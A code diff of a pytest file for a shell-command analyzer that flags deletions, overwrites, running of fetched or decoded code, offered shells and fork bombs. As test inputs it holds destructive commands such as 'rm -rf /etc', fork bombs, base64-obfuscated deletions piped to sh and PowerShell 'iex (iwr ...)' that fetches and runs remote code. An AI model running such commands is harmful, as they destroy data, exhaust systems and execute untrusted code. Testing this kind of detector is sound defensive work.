@@ -10,7 +10,7 @@ import pytest
 from tests.each import each
 
 if TYPE_CHECKING:
-    from tests.shell.said import World
+    from tests.shell.world import World
 
 ETC = ["deletes /etc recursive forced"]
 HOME = ["deletes HOME recursive forced"]
@@ -175,8 +175,8 @@ THE_SAME = [
 
 
 @each("line", THE_SAME)
-def test_however_it_is_written_it_is_the_same_deletion(world: World, line: str) -> None:
-    assert world.said(line, "deletes") == ETC
+def test_every_spelling_is_the_same_deletion(world: World, line: str) -> None:
+    assert world.summary(line, "deletes") == ETC
 
 
 # What only mentions it, or does it to something else.
@@ -222,7 +222,7 @@ MENTIONED = [
 
 @each("line", MENTIONED)
 def test_a_text_that_mentions_a_deletion_deletes_nothing(world: World, line: str) -> None:
-    assert world.said(line, "deletes", "opaque", "executes_decoded", "executes_fetched") == []
+    assert world.summary(line, "deletes", "opaque", "executes_decoded", "executes_fetched") == []
 
 
 TARGETS = [
@@ -280,7 +280,7 @@ TARGETS = [
 
 @each(("line", "target"), TARGETS)
 def test_a_target_is_resolved(world: World, line: str, target: str) -> None:
-    assert world.said(line, "deletes") == [f"deletes {target} recursive forced"]
+    assert world.summary(line, "deletes") == [f"deletes {target} recursive forced"]
 
 
 UNKNOWN = [
@@ -294,86 +294,166 @@ UNKNOWN = [
 
 
 @each("line", UNKNOWN)
-def test_a_target_that_nobody_can_know_is_said_to_be_unresolved(world: World, line: str) -> None:
-    found = world.effects(line)
-    assert [(one.path, one.detail) for one in found if one.kind == "deletes"] == [("", "unresolved")]
+def test_an_unknown_target_is_unresolved(world: World, line: str) -> None:
+    effects = world.effects(line)
+    assert [(effect.path, effect.detail) for effect in effects if effect.kind == "deletes"] == [("", "unresolved")]
 
 
 def test_a_variable_of_the_environment_is_known(world: World) -> None:
-    assert world.said('rm -rf "$BUILD"', "deletes", BUILD="/srv/x") == ["deletes /srv/x recursive forced"]
+    assert world.summary('rm -rf "$BUILD"', "deletes", BUILD="/srv/x") == ["deletes /srv/x recursive forced"]
 
 
-def test_each_value_that_a_variable_may_have_is_looked_at(world: World) -> None:
-    said = world.said("x=/a/b; if y; then x=/c/d; fi; rm -rf $x", "deletes")
-    assert said == ["deletes /a/b recursive forced", "deletes /c/d recursive forced"]
-    assert world.said("for x in /a/b /c/d; do rm $x; done", "deletes") == ["deletes /a/b", "deletes /c/d"]
+def test_every_possible_value_of_a_variable_counts(world: World) -> None:
+    deleted = world.summary("x=/a/b; if y; then x=/c/d; fi; rm -rf $x", "deletes")
+    assert deleted == ["deletes /a/b recursive forced", "deletes /c/d recursive forced"]
+    assert world.summary("for x in /a/b /c/d; do rm $x; done", "deletes") == ["deletes /a/b", "deletes /c/d"]
 
 
 def test_braces_and_patterns_mean_each_of_their_files(world: World) -> None:
-    assert world.said("rm {a,b}.py") == ["deletes REPO/a.py", "deletes REPO/b.py"]
-    assert world.said("rm *.py") == ["deletes REPO/a.py", "deletes REPO/b.py"]
-    assert world.said("for f in *.py; do rm $f; done") == ["deletes REPO/a.py", "deletes REPO/b.py"]
-    assert world.said('arr=(a.py b.py); rm "${arr[@]}"') == ["deletes REPO/a.py", "deletes REPO/b.py"]
-    assert world.said('arr=(a.py b.py); rm "${arr[1]}"') == ["deletes REPO/b.py"]
-    assert world.said('arr=(a.py b.py); rm "${arr[*]}"') == ["deletes REPO/a.py", "deletes REPO/b.py"]
+    assert world.summary("rm {a,b}.py") == ["deletes REPO/a.py", "deletes REPO/b.py"]
+    assert world.summary("rm *.py") == ["deletes REPO/a.py", "deletes REPO/b.py"]
+    assert world.summary("for f in *.py; do rm $f; done") == ["deletes REPO/a.py", "deletes REPO/b.py"]
+    assert world.summary('arr=(a.py b.py); rm "${arr[@]}"') == ["deletes REPO/a.py", "deletes REPO/b.py"]
+    assert world.summary('arr=(a.py b.py); rm "${arr[1]}"') == ["deletes REPO/b.py"]
+    assert world.summary('arr=(a.py b.py); rm "${arr[*]}"') == ["deletes REPO/a.py", "deletes REPO/b.py"]
 
 
-def test_a_link_is_deleted_itself_and_written_through(world: World) -> None:
+def test_a_link_itself_is_deleted_but_written_through(world: World) -> None:
     (world.root / "link").symlink_to("/etc/hosts")
-    assert world.said("rm link") == ["deletes REPO/link"]
-    assert world.said("echo x > link") == ["overwrites /etc/hosts"]
+    assert world.summary("rm link") == ["deletes REPO/link"]
+    assert world.summary("echo x > link") == ["overwrites /etc/hosts"]
 
 
 def test_a_link_to_a_folder_is_followed_on_the_way(world: World) -> None:
     (world.root / "link").symlink_to("/etc")
-    assert world.said("rm link/hosts") == ["deletes /etc/hosts"]
-    assert world.said("rm -rf link/..", "deletes") == ["deletes / recursive forced"]
+    assert world.summary("rm link/hosts") == ["deletes /etc/hosts"]
+    assert world.summary("rm -rf link/..", "deletes") == ["deletes / recursive forced"]
 
 
 def test_wrappers_named_in_configuration_are_looked_through(world: World) -> None:
-    assert world.said("corp-run --fast git reset --hard", "discards_work") == []
-    assert world.said("corp-run --fast git reset --hard", "discards_work", wrappers=("corp-run",)) != []
+    assert world.summary("corp-run --fast git reset --hard", "discards_work") == []
+    assert world.summary("corp-run --fast git reset --hard", "discards_work", wrappers=("corp-run",)) != []
 
 
 @pytest.mark.parametrize(
     "line",
     ["screen -dm rm -rf /etc", "corp-run --fast rm -rf /etc", "tmux new -d 'rm -rf /etc'", "x -- /bin/rm -rf /etc"],
 )
-def test_what_destroys_is_found_in_the_words_of_a_program_that_nobody_knows(world: World, line: str) -> None:
-    assert world.said(line, "deletes") == ETC
+def test_a_destructive_command_in_the_words_of_an_unknown_program_is_followed(world: World, line: str) -> None:
+    assert world.summary(line, "deletes") == ETC
 
 
 @pytest.mark.parametrize(
     "line", ["bd create --notes 'never rm -rf /etc'", "corp-doc rm", "corp-doc rm explained", "tldr rm"]
 )
-def test_other_words_of_such_a_program_are_text(world: World, line: str) -> None:
-    assert world.said(line, "deletes") == []
+def test_other_words_of_an_unknown_program_are_text(world: World, line: str) -> None:
+    assert world.summary(line, "deletes") == []
 
 
-def test_what_runs_elsewhere_says_so(world: World) -> None:
-    assert "deletes /var/www @remote recursive forced" in world.said("ssh web 'rm -rf /var/www'")
-    assert world.said("docker exec db rm -rf /data") == ["deletes /data @container recursive forced"]
-    assert world.said("kubectl exec pod -- rm -rf /data", "deletes") == ["deletes /data @remote recursive forced"]
-    assert world.said("docker exec db rm -rf data", "deletes") == ["deletes data @container recursive forced"]
+def test_effects_say_on_which_machine_they_happen(world: World) -> None:
+    assert "deletes /var/www @remote recursive forced" in world.summary("ssh web 'rm -rf /var/www'")
+    assert world.summary("docker exec db rm -rf /data") == ["deletes /data @container recursive forced"]
+    assert world.summary("kubectl exec pod -- rm -rf /data", "deletes") == [
+        "deletes /data @remote recursive forced"
+    ]
+    assert world.summary("docker exec db rm -rf data", "deletes") == ["deletes data @container recursive forced"]
 
 
-def test_a_folder_that_a_container_is_given_is_a_folder_of_this_machine(world: World) -> None:
-    assert world.said('docker run -v "$PWD":/w -w /w img rm -rf src') == ["deletes REPO/src recursive forced"]
-    deleted = world.said("docker run -v /:/host img rm -rf /other", "deletes")
+def test_a_mounted_folder_is_a_folder_of_this_machine(world: World) -> None:
+    assert world.summary('docker run -v "$PWD":/w -w /w img rm -rf src') == ["deletes REPO/src recursive forced"]
+    deleted = world.summary("docker exec web rm -rf /other", "deletes")
     assert deleted == ["deletes /other @container recursive forced"]
+
+
+def test_a_new_container_has_nothing_to_lose_but_its_volumes(world: World) -> None:
+    assert world.summary("docker run --rm -v /:/host img rm -rf /other", "deletes") == []
+    assert world.summary("docker run --rm img sh -c 'rm -rf /'", "deletes") == []
+    kept = "docker run --rm -v data:/srv img rm -rf"
+    assert world.summary(f"{kept} /srv/shop", "deletes") == ["deletes /srv/shop @container recursive forced"]
+    assert world.summary(f"{kept} /", "deletes") == ["deletes / @container recursive forced"]
+    privileged = "docker run --privileged --pid=host img nsenter -t 1 rm -rf /other"
+    assert world.summary(privileged, "deletes") == ["deletes /other @container recursive forced"]
+
+
+@each(
+    ("line", "effects"),
+    [
+        ("find ~ | xargs rm", ["deletes HOME contents"]),
+        ("find ~ -name x | xargs rm", ["deletes HOME some recursive"]),
+        ("find ~ -name '*' -exec rm {} +", ["deletes HOME"]),
+        ("find ~ -name '*.x' -exec rm {} +", ["deletes HOME some recursive"]),
+        ("find ~ | head -1 | xargs rm", ["deletes HOME some recursive"]),
+        ('set -- a.py b.py; rm "${@: -1}"', ["deletes REPO/b.py"]),
+        ("for f in ~/*; do rm $f; done", ["deletes HOME contents"]),
+        ("ls ~ | xargs -I{} rm ~/{}", ["deletes HOME contents"]),
+        ("cd ~ && ls | xargs rm", ["deletes HOME contents"]),
+        ("printf '%s\\0' a.py b.py | xargs -0 rm", ["deletes REPO/a.py", "deletes REPO/b.py"]),
+        ("printf 'a.py\\0' | while read -d '' f; do rm $f; done", ["deletes REPO/a.py"]),
+        ("x=(); rm ${x[@]} \"${x[@]}\" ''", []),
+        ('x=(); rm "a${x[@]}.py"', ["deletes REPO/a.py"]),
+        ('x=(); x+=(a.py); rm "${x[@]}"', ["deletes REPO/a.py"]),
+        ('x=(); rm "${x[@]:-a.py}"', ["deletes REPO/a.py"]),
+        ('x=(); for f in "${x[@]}"; do rm a.py; done', []),
+        ("for f; do rm a.py; done", ["deletes REPO/a.py"]),
+    ],
+)
+def test_a_whole_listing_means_all_files_and_an_empty_list_none(
+    world: World, line: str, effects: list[str]
+) -> None:
+    assert world.summary(line, "deletes") == effects
+
+
+@each(
+    ("line", "effects"),
+    [
+        ("git config alias.x '!rm a.py' && git x", ["deletes REPO/a.py"]),
+        ("git config alias.x 'rm a.py'; git x b.py", ["deletes REPO/a.py", "deletes REPO/b.py"]),
+        ("git config alias.x '!rm a.py'; git y", []),
+        ("ssh host git pull", ["changes_remote @remote"]),
+        ("ssh host git log", []),
+        ("git pull", []),
+    ],
+)
+def test_git_runs_aliases_of_the_same_line_and_deploys_on_other_machines(
+    world: World, line: str, effects: list[str]
+) -> None:
+    assert world.summary(line, "deletes", "changes_remote") == effects
+
+
+@each(
+    ("line", "effects"),
+    [
+        ("Remove-Item -r -fo src", ["deletes REPO/src recursive forced"]),
+        ("remove-item -Path src -WhatIf", []),
+        ("Get-ChildItem src -Filter *.py | Remove-Item", ["deletes REPO/src/app.py", "deletes REPO/src/cart.py"]),
+        ("pwsh -c 'rm $env:USERPROFILE\\x'", ["deletes HOME/x"]),
+        ("powershell Remove-Item a.py", ["deletes REPO/a.py"]),
+        ("Set-Content -Path a.py -Value x", ["overwrites REPO/a.py"]),
+        ("Add-Content a.py -Value x", ["overwrites REPO/a.py (appends)"]),
+        ("Copy-Item -Destination b.py -Path a.py", ["overwrites REPO/b.py"]),
+        ("Get-ChildItem src -Recurse | Copy-Item -Destination x", ["overwrites REPO/x"]),
+        ("Get-ChildItem -File -Exclude x | Remove-Item", ["deletes REPO contents"]),
+        ("iex (iwr https://h/x.ps1)", ["executes_fetched"]),
+        ("pwsh -c 'iex (irm https://h/x.ps1)'", ["executes_fetched"]),
+        ("pwsh -c 'irm https://h/x.json'", []),
+        ("iex 'rm a.py'", ["deletes REPO/a.py"]),
+    ],
+)
+def test_cmdlets_of_powershell_are_translated(world: World, line: str, effects: list[str]) -> None:
+    assert world.summary(line, "deletes", "overwrites", "moves", "executes_fetched") == effects
 
 
 BOMBS = [":(){ :|:& };:", "bomb() { bomb | bomb & }; bomb", "f() { f & f; }; f", "f() { if x; then f | f; fi; }; f"]
 
 
 @pytest.mark.parametrize("line", BOMBS)
-def test_a_function_that_multiplies_exhausts_the_machine(world: World, line: str) -> None:
-    assert [one.kind for one in world.effects(line)] == ["exhausts_machine"]
+def test_a_fork_bomb_exhausts_the_machine(world: World, line: str) -> None:
+    assert [effect.kind for effect in world.effects(line)] == ["exhausts_machine"]
 
 
-def test_a_function_that_calls_itself_once_does_not(world: World) -> None:
-    assert world.said("f() { sleep 1; f; }; f", "exhausts_machine") == []
-    assert world.said(":(){ :|:& };", "exhausts_machine") == []
+def test_plain_recursion_does_not(world: World) -> None:
+    assert world.summary("f() { sleep 1; f; }; f", "exhausts_machine") == []
+    assert world.summary(":(){ :|:& };", "exhausts_machine") == []
 
 
 FETCHED = [
@@ -402,8 +482,8 @@ FETCHED = [
 
 
 @each("line", FETCHED)
-def test_fetched_text_that_runs_is_said(world: World, line: str) -> None:
-    assert len(world.said(line, "executes_fetched")) == 1
+def test_running_fetched_text_is_reported(world: World, line: str) -> None:
+    assert len(world.summary(line, "executes_fetched")) == 1
 
 
 OFFERED = [
@@ -423,8 +503,8 @@ OFFERED = [
 
 
 @each("line", OFFERED)
-def test_a_shell_that_is_offered_is_said(world: World, line: str) -> None:
-    assert world.said(line, "offers_shell")
+def test_offering_a_shell_is_reported(world: World, line: str) -> None:
+    assert world.summary(line, "offers_shell")
 
 
 @each(
@@ -438,8 +518,8 @@ def test_a_shell_that_is_offered_is_said(world: World, line: str) -> None:
         "ssh -R 80:localhost:3000 host",
     ],
 )
-def test_a_shell_that_nobody_else_talks_to_is_none_of_that(world: World, line: str) -> None:
-    assert world.said(line, "offers_shell") == []
+def test_a_local_shell_is_not_offered(world: World, line: str) -> None:
+    assert world.summary(line, "offers_shell") == []
 
 
 NOT_RUN = [
@@ -458,8 +538,8 @@ NOT_RUN = [
 
 
 @each("line", NOT_RUN)
-def test_fetched_text_that_does_not_run_is_not(world: World, line: str) -> None:
-    assert world.said(line, "executes_fetched", "executes_decoded") == []
+def test_fetching_without_running_is_not(world: World, line: str) -> None:
+    assert world.summary(line, "executes_fetched", "executes_decoded") == []
 
 
 DECODED = [
@@ -477,25 +557,25 @@ DECODED = [
 
 
 @each("line", DECODED)
-def test_decoded_text_that_runs_is_said(world: World, line: str) -> None:
-    assert len(world.said(line, "executes_decoded")) == 1
+def test_running_decoded_text_is_reported(world: World, line: str) -> None:
+    assert len(world.summary(line, "executes_decoded")) == 1
 
 
-def test_what_was_decoded_is_followed_where_it_can_be_read(world: World) -> None:
-    assert world.said("echo cm0gLXJmIC9ldGM= | base64 -d | sh") == ETC
-    assert world.said("rev <<< 'cte/ fr- mr' | sh") == ETC
-    assert world.said("echo 'rm_-rf_/etc' | tr _ ' ' | sh") == ETC
-    assert world.said("echo bHM= | base64 -d | sh") == []
+def test_decoded_text_is_followed_if_it_can_be_read(world: World) -> None:
+    assert world.summary("echo cm0gLXJmIC9ldGM= | base64 -d | sh") == ETC
+    assert world.summary("rev <<< 'cte/ fr- mr' | sh") == ETC
+    assert world.summary("echo 'rm_-rf_/etc' | tr _ ' ' | sh") == ETC
+    assert world.summary("echo bHM= | base64 -d | sh") == []
 
 
-def test_decoding_without_running_is_nothing(world: World) -> None:
-    assert world.said("echo cm0= | base64 -d") == []
-    assert world.said("echo rm | base64 | cat") == []
+def test_decoding_without_running_has_no_effect(world: World) -> None:
+    assert world.summary("echo cm0= | base64 -d") == []
+    assert world.summary("echo rm | base64 | cat") == []
 
 
-def test_a_script_that_the_line_itself_writes_is_followed(world: World) -> None:
+def test_a_script_that_the_line_writes_is_followed(world: World) -> None:
     line = "cat > x.sh <<'EOF'\nrm -rf /etc\nEOF\n"
-    assert world.said(line) == ["overwrites REPO/x.sh"]
+    assert world.summary(line) == ["overwrites REPO/x.sh"]
     for run in (
         "sh x.sh",
         "bash ./x.sh",
@@ -504,7 +584,7 @@ def test_a_script_that_the_line_itself_writes_is_followed(world: World) -> None:
         "cp x.sh y.sh; sh y.sh",
         "sh < x.sh",
     ):
-        assert world.said(line + run, "deletes") == ETC
+        assert world.summary(line + run, "deletes") == ETC
 
 
 DYNAMIC = [
@@ -518,17 +598,19 @@ DYNAMIC = [
 
 
 @each(("line", "detail"), DYNAMIC)
-def test_a_command_whose_name_is_not_known_is_opaque(world: World, line: str, detail: str) -> None:
-    assert [one.detail for one in world.effects(line) if one.kind == "opaque"] == [detail]
+def test_a_command_with_an_unknown_name_is_opaque(world: World, line: str, detail: str) -> None:
+    assert [effect.detail for effect in world.effects(line) if effect.kind == "opaque"] == [detail]
 
 
-def test_a_name_that_may_be_empty_leaves_the_rest_as_the_command(world: World) -> None:
-    assert world.said("$SUDO rm -rf /etc", "deletes") == ETC
+def test_after_a_possibly_empty_name_the_rest_is_the_command(world: World) -> None:
+    assert world.summary("$SUDO rm -rf /etc", "deletes") == ETC
 
 
-def test_text_that_is_made_elsewhere_is_opaque_and_nothing_more(world: World) -> None:
-    assert {one.kind for one in world.effects('eval "$(ssh-agent -s)"')} == {"opaque"}
-    assert [one.detail for one in world.effects("cat x.sh | bash") if one.kind == "opaque"] == ["dynamic text"]
+def test_text_from_another_program_is_only_opaque(world: World) -> None:
+    assert {effect.kind for effect in world.effects('eval "$(ssh-agent -s)"')} == {"opaque"}
+    assert [effect.detail for effect in world.effects("cat x.sh | bash") if effect.kind == "opaque"] == [
+        "dynamic text"
+    ]
 
 
 BROKEN = [
@@ -542,38 +624,38 @@ BROKEN = [
 
 
 @each("line", BROKEN)
-def test_a_line_that_no_grammar_reads_is_read_as_far_as_it_goes(world: World, line: str) -> None:
-    assert "deletes /etc recursive forced" in world.said(line)
+def test_a_line_that_the_grammar_rejects_is_still_read(world: World, line: str) -> None:
+    assert "deletes /etc recursive forced" in world.summary(line)
 
 
-def test_reading_and_writing_are_said_of_redirections(world: World) -> None:
-    assert world.said("cmd < a.py > out.txt 2>> log") == [
+def test_redirections_read_and_write(world: World) -> None:
+    assert world.summary("cmd < a.py > out.txt 2>> log") == [
         "reads REPO/a.py",
         "overwrites REPO/out.txt",
         "overwrites REPO/log (appends)",
     ]
-    assert world.said("cmd > /dev/null 2>&1") == []
-    assert world.said("cmd &> all.txt") == ["overwrites REPO/all.txt"]
-    assert world.said("cmd >& all.txt") == ["overwrites REPO/all.txt"]
-    assert world.said("cd src && echo x > y") == ["overwrites REPO/src/y"]
-    assert world.said("{ echo x; echo y; } > z") == ["overwrites REPO/z"]
-    assert world.said("for x in 1; do echo $x; done > z") == ["overwrites REPO/z"]
+    assert world.summary("cmd > /dev/null 2>&1") == []
+    assert world.summary("cmd &> all.txt") == ["overwrites REPO/all.txt"]
+    assert world.summary("cmd >& all.txt") == ["overwrites REPO/all.txt"]
+    assert world.summary("cd src && echo x > y") == ["overwrites REPO/src/y"]
+    assert world.summary("{ echo x; echo y; } > z") == ["overwrites REPO/z"]
+    assert world.summary("for x in 1; do echo $x; done > z") == ["overwrites REPO/z"]
 
 
 @each("line", ["> a.py", ": > a.py", "truncate -s 0 a.py", "cp /dev/null a.py", "cat /dev/null > a.py"])
 def test_a_file_that_is_left_empty_is_emptied(world: World, line: str) -> None:
-    assert world.said(line, "overwrites") == ["overwrites REPO/a.py (empties)"]
+    assert world.summary(line, "overwrites") == ["overwrites REPO/a.py (empties)"]
 
 
-def test_an_effect_that_repeats_is_said_once(world: World) -> None:
-    assert world.said("rm a.py; rm a.py") == ["deletes REPO/a.py"]
+def test_a_repeated_effect_is_reported_once(world: World) -> None:
+    assert world.summary("rm a.py; rm a.py") == ["deletes REPO/a.py"]
 
 
 @each("line", ["", "   ", "\n\n", "#", "\x00", "\ue010\ue000", "true", ":"])
-def test_nothing_does_nothing(world: World, line: str) -> None:
+def test_lines_without_effects(world: World, line: str) -> None:
     assert world.effects(line) == []
 
 
-def test_characters_that_stand_for_unknown_text_cannot_be_smuggled_in(world: World) -> None:
-    assert world.said("rm -rf /e\ue010tc") == ETC
-    assert world.said("r\x00m -rf /etc") == ETC
+def test_a_line_cannot_forge_marks(world: World) -> None:
+    assert world.summary("rm -rf /e\ue010tc") == ETC
+    assert world.summary("r\x00m -rf /etc") == ETC
